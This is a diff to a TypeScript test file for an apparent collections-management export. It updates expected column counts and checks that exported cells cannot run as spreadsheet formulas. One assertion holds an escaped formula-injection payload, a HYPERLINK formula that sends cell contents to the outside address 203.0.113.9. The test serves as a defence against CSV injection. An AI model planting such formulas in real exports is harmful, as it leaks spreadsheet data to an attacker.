@@ -74,7 +74,7 @@ test("no cell of the export runs as a formula, whatever people are called and wh
   for (const profile of ["excel", "machine"] as const) {
     const { rows } = await exported(own.admin, { profile, portfolio: own.portfolio });
     expect(rows).toHaveLength(storable.length + 1);
-    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([20]));
+    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([21]));
     const cells = rows.slice(1).flat();
     expect(cells.filter((cell) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([]);
     expect(cells).toContain('\'=HYPERLINK("http://203.0.113.9/?d="&A1,"ver")');
@@ -137,7 +137,7 @@ test("an annulled gestión stays in the export, marked", async () => {
   const annulment = { id: newId<GestionId>(), gestion: input.id, reason: "error de dedo" };
   await inside((tx) => gestiones.annul(tx, actor(own.admin, nine + 1), annulment));
   const { rows } = await exported(own.admin, { portfolio: own.portfolio });
-  expect(rows.slice(1).map((row) => row.at(-1))).toEqual(["SI"]);
+  expect(rows.slice(1).map((row) => row.at(-2))).toEqual(["SI"]);
 });
 
 test("an agent's day counts talks, gestiones, promises and the time in each state, the current one up to now", async () => {
